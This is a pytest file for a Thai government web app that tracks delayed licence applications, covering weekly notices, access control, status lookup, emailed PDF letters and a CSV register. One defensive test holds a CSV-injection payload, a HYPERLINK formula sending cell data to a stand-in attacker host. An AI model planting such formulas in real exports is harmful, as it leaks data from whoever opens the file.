"""Delayed applications through HTTP with the clock moved: the 7-day notice cycle, the late update, scope, CSV."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta
from urllib.parse import urlsplit

import time_machine
from sqlalchemy import func, select

from app.accounts.models import Role
from app.accounts.services import accounts
from app.core.extensions import db
from app.core.workflow import HumanTask, ProcessInstance, TaskStatus
from app.licensing.models import DelayNotice, DelayRecord
from app.licensing.services import delay_letters, licensing
from notifications import letters
from notifications.models import Notification, OutboxMessage
from tasks.jobs import send_outbox
from tests.helpers import nfkc, read_pdf, th
from workflows import engine
from workflows.calendar import BANGKOK

OPDC_COPY = "สำเนาหนังสือแจ้งเรื่องล่าช้า"
LATE = "แจ้งเรื่องล่าช้าไม่ทันกำหนด"


def bkk(*parts) -> datetime:
    return datetime(*parts, tzinfo=BANGKOK)


def _form(process, **changes) -> dict:
    data = {"reference": "นบ 0001/2570", "applicant_name": "นายสมปอง รอคอย",
            "applicant_address": "99 หมู่ 1 ตำบลบางกระสอ อำเภอเมืองนนทบุรี จังหวัดนนทบุรี 11000",
            "applicant_email": "sompong@example.org", "applicant_phone": "081-234-5678",
            "process_id": str(process.id), "promised_days": "15", "received_on": "2027-01-15",
            "reason": "รอความเห็นจากสำนักงานโยธาธิการจังหวัด", "expected_decision_on": "2027-03-31"}
    return data | changes


def _delay() -> DelayRecord:
    return db.session.scalar(select(DelayRecord).order_by(DelayRecord.id.desc()).limit(1)
                             .execution_options(populate_existing=True))


def _notices(delay) -> list[DelayNotice]:
    return list(db.session.scalars(select(DelayNotice).where(DelayNotice.delay_id == delay.id)
                                   .order_by(DelayNotice.number).execution_options(populate_existing=True)))


def _update_task(delay) -> HumanTask | None:
    return db.session.scalar(select(HumanTask).where(HumanTask.instance_id == delay.instance_id,
                                                     HumanTask.spec_name == "update_reason",
                                                     HumanTask.status == TaskStatus.open))


def _fire():
    engine.fire_due_timers()
    db.session.commit()


def _count(model, *where) -> int:
    return db.session.scalar(select(func.count()).select_from(model).where(*where))


def _opdc_copies(opdc) -> int:
    return _count(Notification, Notification.user_id == opdc.id, Notification.subject.contains(OPDC_COPY))


def _record(client, login, demo, **changes):
    point = demo.agency("sp_muang")
    process = licensing.processes_for(point)[0]
    login("spoint")
    return client.post(f"/delays/points/{point.id}/new", data=_form(process, **changes))


def test_sixty_days_of_delay_produce_first_notice_one_every_seven_days_and_final(app, client, login, demo,
                                                                                 count_queries, smtp):
    opdc = demo.user("opdc")
    start = bkk(2027, 2, 1, 10, 0)  # Monday
    with time_machine.travel(start, tick=False):  # the notice dates are compared to the second
        page = _record(client, login, demo, promised_days="", reason=" ", applicant_email="not-an-address")
        assert page.status_code == 422
        text = page.get_data(as_text=True)
        assert "ระบุเหตุแห่งความล่าช้า" in text and "อีเมลไม่ถูกต้อง" in text and "ระยะเวลาที่ให้ไว้" in text
        assert _count(DelayRecord) == 0
        assert _record(client, login, demo).status_code == 302
        delay = _delay()
        assert len(delay.lookup_code) == 8
        again = _record(client, login, demo)
        assert again.status_code == 409 and "ได้บันทึกเป็นเรื่องล่าช้า" in again.get_data(as_text=True)
        notices = _notices(delay)
        assert [(n.number, n.kind) for n in notices] == [(1, "first")]
        assert delay.next_notice_at == start + timedelta(days=7)
        listing = client.get("/delays/").get_data(as_text=True)
        assert delay.reference in listing

    # Every day for 60 days the timer job runs; the notices go out on their day whether or not the officer answered.
    # The officer gives a new reason the morning after a notice, every other week only.
    for day in range(1, 60):
        with time_machine.travel(start + timedelta(days=day, minutes=30)):
            _fire()
            task = _update_task(delay)
            if day % 14 == 1:
                assert task is not None and task.role == "service_point_officer", day
                login("spoint")
                form = client.get(f"/tasks/{task.id}").get_data(as_text=True)
                assert "รอความเห็น" in form  # the current reason is prefilled
                done = client.post(f"/tasks/{task.id}", data={"outcome": "pending",
                                                               "reason": f"ยังรอความเห็น (วันที่ {day})",
                                                               "expected": ""})
                assert done.status_code == 302, day
            assert (task is None) == (day % 14 in (2, 3, 4, 5, 6)), day  # answered: no task until the next week
            # A week's notice that finds the task unanswered replaces it: never two open at once.
            assert _count(HumanTask, HumanTask.instance_id == delay.instance_id,
                          HumanTask.status == TaskStatus.open) <= 1, day

    # The weeks left unanswered: each one's task was withdrawn by the next notice (days 14, 28, 42, 56).
    assert _count(HumanTask, HumanTask.instance_id == delay.instance_id, HumanTask.status == TaskStatus.cancelled) == 4
    with time_machine.travel(start + timedelta(days=60)):
        login("spoint")
        empty = client.post(f"/delays/{delay.id}/decision", data={"decision": ""})
        assert empty.status_code == 422 and "เลือกผลการพิจารณา" in empty.get_data(as_text=True)
        assert client.post(f"/delays/{delay.id}/decision", data={"decision": "approved"}).status_code == 302
        twice = client.post(f"/delays/{delay.id}/decision", data={"decision": "refused"}, follow_redirects=True)
        assert "บันทึกผลการพิจารณาไว้แล้ว" in twice.get_data(as_text=True)

    delay = _delay()
    notices = _notices(delay)
    # Notices on day 0 (first), days 7, 14, …, 56 (updates) and on the decision (final).
    assert [n.kind for n in notices] == ["first"] + ["update"] * 8 + ["final"]
    assert [n.number for n in notices] == list(range(1, 11))
    assert [n.issued_at.astimezone(BANGKOK).date() for n in notices[1:-1]] == [
        (start + timedelta(days=7 * k)).date() for k in range(1, 9)]
    assert notices[-1].decision == "approved" and notices[3].reason == "ยังรอความเห็น (วันที่ 15)"
    # A week without a new reason restates the last one.
    assert [n.restated for n in notices] == [False] + [False, True] * 4 + [False]
    assert notices[4].reason == "ยังรอความเห็น (วันที่ 15)"
    assert delay.status == "decided" and delay.next_notice_at is None
    assert all(n.opdc_copied == 1 for n in notices)
    assert _opdc_copies(opdc) == 10
    mails = db.session.scalars(select(OutboxMessage).where(OutboxMessage.to_address == "sompong@example.org")).all()
    assert len(mails) == 10 and all(delay.reference in m.subject for m in mails)
    # Each e-mail carries its official letter, made by the outbox (no request waited for it) from the notice.
    assert all(m.attachment_source and m.attachment_data is None for m in mails)
    with time_machine.travel(start + timedelta(days=70)):
        while sum(send_outbox(app).values()):
            pass
    sent = {m["Subject"]: m for m in smtp.handler.messages() if m["To"] == "sompong@example.org"}
    assert len(sent) == 10
    for mail in sorted(mails, key=lambda m: m.id)[::3]:
        number = int(mail.subject.rsplit(" ", 1)[-1].rstrip(")"))
        [attachment] = list(sent[mail.subject].iter_attachments())
        assert attachment.get_content_type() == "application/pdf"
        assert attachment.get_filename().endswith(f"-{number}.pdf")
        attached = read_pdf(attachment.get_content())
        assert nfkc(f"ฉบับที่ {letters.thai_digits(number)}") in attached.text and "สมปอง" in attached.text
    instance = db.session.get(ProcessInstance, delay.instance_id)
    assert instance.status == "complete"

    # OPDC's register and its CSV: every copy, filtered by kind; one query for the page however many rows.
    login("opdc")
    with count_queries() as statements:
        page = client.get("/delays/register")
    assert page.status_code == 200 and page.get_data(as_text=True).count("data-kind=") == 10
    assert len([s for s in statements if "delay_notice" in s]) == 1
    exported = client.get("/delays/register.csv?kind=update")
    assert exported.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(exported.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[0][:3] == ["ออกเมื่อ", "หน่วยงาน", "เลขที่คำขอ"] and len(rows) == 9
    assert {row[5] for row in rows[1:]} == {th("Update")}
    dated = client.get("/delays/register.csv?date_from=2027-02-08&date_to=2027-02-08")
    assert len(list(csv.reader(io.StringIO(dated.get_data(as_text=True))))) == 2
    assert client.get("/delays/register").status_code == 200
    login("spoint")
    assert client.get("/delays/register").status_code == 403

    # Every notice prints as a one-page Thai letter that reads back as written, its font embedded.
    for notice in notices:
        response = client.get(f"/delays/{delay.id}/notices/{notice.number}.pdf")
        assert response.status_code == 200 and response.mimetype == "application/pdf", notice.number
        printed = read_pdf(response.data, png_name=f"delay-notice-{notice.number}"
                           if notice.number in (1, 2, 10) else None, scan_qr=notice.number == 10)
        assert printed.pages == 1
        assert printed.fonts and all(font["emb"] == "yes" and "Laksaman" in font["name"] for font in printed.fonts)
        expected = delay_letters.letter_of(notice)
        fields = [letters.thai_digits(expected.reference), letters.thai_date(expected.date),
                  letters.thai_digits(expected.subject), expected.addressee, letters.thai_digits(expected.refers_to),
                  *map(letters.thai_digits, expected.paragraphs), *map(letters.thai_digits, expected.footer),
                  *expected.qr_caption, expected.closing, f"({expected.signer_name})"]
        squeezed = "".join(printed.text.split())
        for field in fields:
            assert "".join(nfkc(field).split()) in squeezed, (notice.number, field)
        assert nfkc(f"ฉบับที่ {letters.thai_digits(notice.number)}") in printed.text
        assert nfkc("นายสมปอง รอคอย") in printed.text and delay.lookup_code in printed.text
        assert nfkc("นบ ๐๐๐๑/๒๕๗๐") in printed.text  # the application's reference in Thai numerals
        if notice.kind == "final":
            assert nfkc("อนุญาตตามคำขอ") in printed.text and "เนื่องจาก" not in printed.text
        else:
            assert nfkc(letters.thai_digits(notice.reason)) in "".join(printed.text.split("\n"))
    # The QR code takes a phone to the applicant's status page, code included: all ten notices are listed there.
    (link,) = printed.qr_codes
    assert link == delay_letters.status_url(delay)
    parts = urlsplit(link)
    status_page = client.get(f"{parts.path}?{parts.query}").get_data(as_text=True)
    assert status_page.count('class="list-group-item"') == 10 and "สมปอง" not in status_page
    # OPDC reads its copy without the applicant's name; another service point reads nothing.
    login("opdc")
    copy = read_pdf(client.get(f"/delays/{delay.id}/notices/1.pdf").data)
    assert "สมปอง" not in copy.text and nfkc("ผู้ยื่นคำขอ") in copy.text
    assert client.get(f"/delays/{delay.id}/notices/11.pdf").status_code == 404


def test_late_update_notifies_central_officers_and_the_task_can_answer_with_the_decision(app, client, login, demo):
    central, opdc = demo.user("central"), demo.user("opdc")
    start = bkk(2027, 2, 1, 10, 0)  # Monday
    with time_machine.travel(start):
        assert _record(client, login, demo, applicant_email="").status_code == 302
        delay = _delay()
        task = _update_task(delay)
        assert task.due_at == bkk(2027, 2, 3, 10, 0)  # 2 working days after the first notice
    with time_machine.travel(bkk(2027, 2, 3, 9, 59)):
        _fire()
        assert _count(Notification, Notification.user_id == central.id, Notification.subject.contains(LATE)) == 0
    with time_machine.travel(bkk(2027, 2, 3, 10, 1)):
        _fire()
        assert _count(Notification, Notification.user_id == central.id, Notification.subject.contains(LATE)) == 1
        _fire()  # nothing twice
        assert _count(Notification, Notification.user_id == central.id, Notification.subject.contains(LATE)) == 1
        login("central")
        assert client.get(f"/delays/{delay.id}").status_code == 200
        assert delay.reference in client.get("/delays/department").get_data(as_text=True)
        login("spoint")
        done = client.post(f"/tasks/{_update_task(delay).id}", data={"outcome": "withdrawn", "reason": ""})
        assert done.status_code == 302
    delay = _delay()
    assert [n.kind for n in _notices(delay)] == ["first", "final"]
    assert delay.decision == "withdrawn" and delay.status == "decided"
    assert _opdc_copies(opdc) == 2
    assert _count(OutboxMessage, OutboxMessage.dedup_key.like("delay:%:applicant")) == 0  # no address, no e-mail


def test_another_service_point_and_opdc_cannot_see_the_applicant(app, client, login, demo):
    with time_machine.travel(bkk(2027, 2, 1, 10, 0)):
        assert _record(client, login, demo).status_code == 302
        delay = _delay()
        other = accounts.create_user("spoint2", "ผู้ใช้ ปากเกร็ด", "secret-pass")
        accounts.grant(other, demo.agency("sp_pakkret").id, Role.service_point_officer.value)
        db.session.commit()
        login("spoint2")
        assert client.get(f"/delays/{delay.id}").status_code == 404
        assert client.post(f"/delays/{delay.id}/decision", data={"decision": "refused"}).status_code == 404
        assert client.get(f"/delays/points/{demo.agency('sp_muang').id}/new").status_code == 404
        assert delay.reference not in client.get("/delays/").get_data(as_text=True)
        login("opdc")
        assert client.get(f"/delays/{delay.id}").status_code == 404
        assert "นายสมปอง" not in client.get("/delays/register").get_data(as_text=True)
    assert _delay().decision is None


def test_the_applicant_follows_the_application_with_the_code_and_learns_nothing_without_it(app, client, login,
                                                                                         demo):
    with time_machine.travel(bkk(2027, 2, 1, 9, 0)):
        assert _record(client, login, demo).status_code == 302
    with time_machine.travel(bkk(2027, 2, 8, 9, 1)):
        _fire()  # the first weekly update is due
    delay = _delay()
    client.post("/logout")

    page = client.get("/status", query_string={"ref": " นบ 0001/2570 ", "code": delay.lookup_code.lower()})
    html = page.get_data(as_text=True)
    assert page.status_code == 200 and 'id="status-result"' in html
    assert "รอความเห็นจากสำนักงานโยธาธิการจังหวัด" in html  # the reason on the first notice
    assert "31 มี.ค. 2570" in html  # the expected decision date, Buddhist era
    for personal in ("สมปอง", "sompong@example.org", "081-234-5678", "บางกระสอ"):
        assert personal not in html  # nothing of the applicant's own data

    # Typed from the letter, where the reference is printed in Thai numerals.
    typed = client.get("/status", query_string={"ref": "นบ ๐๐๐๑/๒๕๗๐", "code": delay.lookup_code})
    assert typed.status_code == 200 and 'id="status-result"' in typed.get_data(as_text=True)

    wrong = client.get("/status", query_string={"ref": "นบ 0001/2570", "code": "WRONG123"})
    missing = client.get("/status", query_string={"ref": "นบ 9999/2570", "code": delay.lookup_code})
    assert wrong.status_code == missing.status_code == 404
    for answer in (wrong, missing):  # the same answer: nobody learns that the reference exists
        html = answer.get_data(as_text=True)
        assert 'id="status-not-found"' in html and 'id="status-result"' not in html


def test_guessing_codes_is_rate_limited(app, client):
    from app.core.extensions import limiter

    app.config["RATELIMIT_STATUS_LOOKUP"] = "3 per minute"
    limiter.reset()
    try:
        answers = [client.get("/status", query_string={"ref": "นบ 1/2570", "code": f"GUESS{n}"}).status_code
                   for n in range(5)]
    finally:
        limiter.reset()
    assert answers[:3] == [404, 404, 404] and answers[3:] == [429, 429]


def test_the_applicant_receives_each_notice_by_email_with_its_letter_attached(app, client, login, demo, smtp):
    with time_machine.travel(bkk(2027, 2, 1, 10, 0)):
        assert _record(client, login, demo).status_code == 302
        send_outbox(app)
    delay = _delay()
    [message] = [m for m in smtp.handler.messages() if m["To"] == "sompong@example.org"]
    assert delay.reference in message["Subject"] and delay.lookup_code in message.get_body(("plain",)).get_content()
    [attachment] = list(message.iter_attachments())
    assert attachment.get_content_type() == "application/pdf"
    printed = read_pdf(attachment.get_content())
    assert nfkc("นายสมปอง รอคอย") in printed.text and nfkc("ฉบับที่ ๑") in printed.text


def test_the_register_csv_never_hands_a_spreadsheet_a_formula(app, client, login, demo):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"ดูรายละเอียด")'
    with time_machine.travel(bkk(2027, 2, 1, 10, 0)):
        response = _record(client, login, demo, reference="@SUM(1+1)", reason=formula)
        assert response.status_code == 302, response.get_data(as_text=True)[:1000]
        login("opdc")
        exported = client.get("/delays/register.csv")
    assert exported.status_code == 200 and exported.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(exported.get_data(as_text=True).lstrip("\ufeff"))))
    [row] = [row for row in rows[1:] if row[2].endswith("@SUM(1+1)")]
    assert row[2] == "'@SUM(1+1)" and row[7] == "'" + formula
    assert rows[0][0] == "ออกเมื่อ" and row[0] == "1 ก.พ. 2570 10:00"  # a Thai date, in Bangkok time
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for line in rows for cell in line)


def test_recording_a_delay_reads_the_points_processes_once(app, client, login, demo, count_queries):
    """The form offers the point's processes and checks the one chosen against the same list: read once, with the
    department that owns them."""
    with time_machine.travel(bkk(2027, 2, 1, 10, 0)):
        point = demo.agency("sp_muang")
        data, point_id = _form(licensing.processes_for(point)[0]), point.id
        login("spoint")
        db.session.commit()
        db.session.expunge_all()  # as a server's new request starts
        with count_queries() as sent:
            done = client.post(f"/delays/points/{point_id}/new", data=data)
        assert done.status_code == 302 and "/login" not in done.location, done.location
    assert _delay().reference == "นบ 0001/2570"
    assert len([statement for statement in sent if statement.startswith("SELECT process.id")]) == 1, sent
